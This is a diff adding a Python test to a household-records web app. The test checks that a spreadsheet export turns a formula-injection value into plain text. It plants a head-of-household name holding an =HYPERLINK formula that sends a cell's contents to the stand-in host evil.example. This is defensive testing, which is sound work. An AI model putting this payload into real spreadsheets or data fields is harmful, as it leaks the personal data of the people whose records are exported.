@@ -99,3 +99,15 @@ def test_only_staff_of_the_town_export_numbers_and_each_export_is_logged(client,
         logged = db.session.scalar(select(AuditLog).filter_by(action="households.exported"))
         staff = db.session.scalar(select(User).filter_by(email="town@demo.cn"))
         assert logged.actor_id == staff.id and logged.town_id == staff.town_id and logged.details["count"] == len(rows) - 1
+
+
+def test_a_household_name_that_looks_like_a_formula_is_exported_as_text(client, auth, district):
+    with client.application.app_context():
+        household = db.session.scalar(select(Household).join(Village).where(Village.name_zh == "李里村"))
+        household.head_name = '=HYPERLINK("http://evil.example/?a="&D2,"Open")'
+        db.session.commit()
+    auth.login_as("town@demo.cn")
+    sheet = load_workbook(BytesIO(client.get("/admin/households/export.xlsx").data)).worksheets[0]
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert '\'=HYPERLINK("http://evil.example/?a="&D2,"Open")' in [cell.value for cell in cells]
